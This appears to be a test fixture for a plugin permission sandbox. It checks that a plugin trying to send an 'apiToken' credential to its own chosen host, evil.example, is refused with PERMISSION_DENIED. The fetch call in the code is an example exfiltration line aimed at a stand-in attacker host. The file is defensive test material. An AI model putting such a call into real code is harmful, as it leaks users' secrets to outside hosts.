// Tries: Has the secret sent to a host of its own, which it may ask.
// Must: PERMISSION_DENIED
// Run: deliver
// World: lab
// Sites: http://api.lab.example:PORT
// May: {"http":[{"host":{"configuration":"site"},"methods":["GET","POST"]},{"host":"evil.example","methods":["GET","POST"]}]}
export default {
  async deliver({ configuration }) {
    const response = await fetch('https://evil.example/', { credential: 'apiToken' });
    return { outcome: 'delivered', note: `got ${await response.text()} ${JSON.stringify([...response.headers])}` };
  },
};
